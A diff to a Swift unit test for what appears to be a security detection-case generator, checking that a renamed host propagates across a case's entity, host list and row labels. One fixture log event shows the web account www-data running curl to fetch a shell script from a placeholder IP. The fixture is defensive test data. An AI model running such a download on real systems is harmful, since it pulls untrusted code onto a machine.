@@ -283,6 +283,17 @@ import Testing
             },
         ])
         let rename = try #require(config.transforms.last)
+        // A renamed host is renamed wherever the case repeats it: entity, shorthand list, row_labels.
+        var labeled = Self.lsass
+        labeled.hosts = ["WS-0142"]
+        labeled.rowLabels = [RowLabel(match: [.init(column: "host.name", value: "WS-0142"), .init(column: "user.name", value: "jdoe")], label: .tp)]
+        #expect(CaseVariants.make(labeled, transform: .user(rename), targets: Self.production) == [
+            expected(labeled, "rename-host", 1) {
+                $0.entity = Entity(type: .host, name: "build-agent-07")
+                $0.hosts = ["build-agent-07"]
+                $0.rowLabels = [RowLabel(match: [.init(column: "host.name", value: "build-agent-07"), .init(column: "user.name", value: "jdoe")], label: .tp)]
+            },
+        ])
         #expect(CaseVariants.make(Self.curl, transform: .user(rename), targets: Self.production).first?.documents?.first?.source
             == #"{"@timestamp":"2026-01-01T00:00:00Z","host":{"name":"build-agent-07"},"user.name":"www-data","process":{"name":"curl","command_line":"curl -s http://198.51.100.7/x.sh","args":["curl","-s","http://198.51.100.7/x.sh"]}}"#)
     }
